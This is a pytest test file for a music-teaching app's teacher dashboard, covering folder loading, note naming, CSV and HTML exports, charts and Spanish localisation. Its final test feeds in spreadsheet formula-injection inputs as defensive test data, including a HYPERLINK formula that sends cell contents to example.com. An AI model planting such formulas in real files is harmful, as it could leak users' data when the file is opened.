"""The teacher's dashboard: read a folder, change the naming, export, all without code."""

from __future__ import annotations

import contextlib
import io
from pathlib import Path

from musicgames import progress
from musicgames.progress import ProgressStore
from musicgames.teacher import class_dashboard


def _quiet(action):  # type: ignore[no-untyped-def]
    """Run ``action`` with what Output widgets print outside a notebook thrown away."""
    with contextlib.redirect_stdout(io.StringIO()):
        return action()


def _class(tmp_path: Path) -> Path:
    folder = progress.demo_class(tmp_path / "class", students=2)
    (folder / "junk.sqlite3").write_bytes(b"junk")
    with ProgressStore(folder / "ana.sqlite3") as store:
        store.record("quiz", "D major", "D major", False, 900.0)
        store.record("lesson", "01-the-staff/line-or-space", "line", True, 900.0)
    return folder


def test_the_dashboard_reads_a_folder_typed_in_its_box(tmp_path: Path) -> None:
    folder = _class(tmp_path)
    board = _quiet(lambda: class_dashboard(None, export_to=tmp_path))
    assert board.klass.students == ["Ana", "Bruno", "Chloé", "Dmitri"]  # the demo class
    board.folder.value = str(folder)
    _quiet(board.load_button.click)
    assert board.klass.students == ["Ana", "Bruno"]
    assert "junk.sqlite3" in {item.file for item in board.klass.skipped}
    assert "Not read: 1" in board.status.value
    board.folder.value = str(tmp_path / "nowhere")
    _quiet(board.load_button.click)
    assert "is not a folder" in board.status.value
    assert board.klass.students == ["Ana", "Bruno"]  # what was shown stays


def test_the_weakest_column_uses_one_naming_for_notes_and_chords(tmp_path: Path) -> None:
    klass = progress.open_class(_class(tmp_path))
    letters = klass.table(naming="letters")
    solfege = klass.table(naming="solfege")
    weakest = letters.headers.index("weakest")
    for row_l, row_s in zip(letters.rows, solfege.rows, strict=True):
        name_l, name_s = row_l[weakest], row_s[weakest]
        assert name_l[0] in "ABCDEFG", name_l
        assert name_s.split()[0].rstrip("0123456789♯♭#b") in (
            "Do", "Re", "Mi", "Fa", "Sol", "La", "Si"), name_s
    assert progress.item_label("D major", "solfege") == "Re major"
    assert progress.item_label("Fa#3", "letters") == "F♯4"


def test_exports_write_a_csv_and_an_html_report_outside_the_class_folder(tmp_path: Path) -> None:
    folder = _class(tmp_path)
    exports = tmp_path / "exports"
    exports.mkdir()
    board = _quiet(lambda: class_dashboard(folder, naming="letters", language="es",
                                           export_to=exports))
    before = sorted(p.name for p in folder.iterdir())
    board.csv_button.click()
    assert board.status.value.startswith("Escrito: ")
    board.html_button.click()
    csv_rows = progress.read_csv(exports / "class-progress.csv")
    assert {a.student for a in csv_rows} == {"Ana", "Bruno"}
    html = (exports / "class-report.html").read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and "data:image/png;base64," in html
    assert "Ana" in html and "Bruno" in html and "01-the-staff" in html
    assert sorted(p.name for p in folder.iterdir()) == before


def test_the_staff_chart_draws_an_engraved_treble_clef() -> None:
    from matplotlib.patches import PathPatch

    klass = progress.open_class(None)
    figure = progress.plot_notes(klass.answers)
    patches = [p for p in figure.axes[0].patches if isinstance(p, PathPatch)]
    assert len(patches) == 1
    box = patches[0].get_path().get_extents()
    assert 6.5 < box.height < 7.5  # the G clef spans about 7 staff spaces
    assert not any("clef" in t.get_text() for t in figure.axes[0].texts)


def test_the_dashboard_speaks_spanish_with_a_click(tmp_path: Path) -> None:
    folder = _class(tmp_path)
    board = _quiet(lambda: class_dashboard(folder, export_to=tmp_path))
    assert board.load_button.description == "Read the folder"
    board.languages.value = "es"
    _quiet(lambda: None)
    assert board.load_button.description == "Leer la carpeta"
    assert board.status.value.startswith("Leído ")
    klass = board.klass
    table = klass.table(naming="solfege", language="es")
    assert table.headers[-1] == "más débil" and table.caption == "Clase"
    assert any("," in row[3] for row in table.rows)  # "1,30 s": the Spanish decimal mark
    assert klass.lessons_table(language="es").headers[1] == "lección"
    report = klass.report(language="es")
    assert report.title == "La clase"
    figure = report.parts[1]
    assert figure.axes[0].get_title() == "La clase: progreso por días"
    html = board.export_html().read_text(encoding="utf-8")
    assert '<html lang="es">' in html and "Progreso de la clase" in html


def test_the_teachers_notebook_shows_the_dashboard_and_the_deck_button() -> None:
    import json

    notebook = Path(__file__).parent.parent / "notebooks" / "teacher.ipynb"
    code = [
        "".join(cell["source"])
        for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]
        if cell["cell_type"] == "code"
    ]
    assert any("class_dashboard()" in source for source in code)
    assert any("deck_button(" in source for source in code)


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """Names and answers are typed by students: a cell a spreadsheet would run as a formula
    (= + - @, a tab or a carriage return first) is written with a ' in front (OWASP); a
    plain negative number stays a number; reading the export back gives every cell as it was."""
    import csv

    folder = tmp_path / "class"
    folder.mkdir()
    evil = '=HYPERLINK("http://example.com/?"&A1,"Click")'
    typed = [evil, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "-3", "Sol"]
    with ProgressStore(folder / "x.sqlite3", student="=1+1") as store:
        for answer in typed:
            store.record("lesson", "04-sharps-and-flats/half-steps", answer, False, 900.0)
    exports = tmp_path / "exports"
    exports.mkdir()
    board = _quiet(lambda: class_dashboard(folder, export_to=exports))
    board.csv_button.click()
    path = exports / "class-progress.csv"
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    columns = progress.CSV_COLUMNS
    student, answer = columns.index("student"), columns.index("answer")
    assert {row[student] for row in rows} == {"'=1+1"}
    written = [row[answer] for row in rows]
    for cell in written:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-3", cell
    assert written[0] == f"'{evil}" and "-3" in written and "Sol" in written
    assert "''=1+1" in written  # a ' already there gets one more: read back unchanged
    back = progress.read_csv(path)
    assert [a.answer for a in back] == typed and {a.student for a in back} == {"=1+1"}
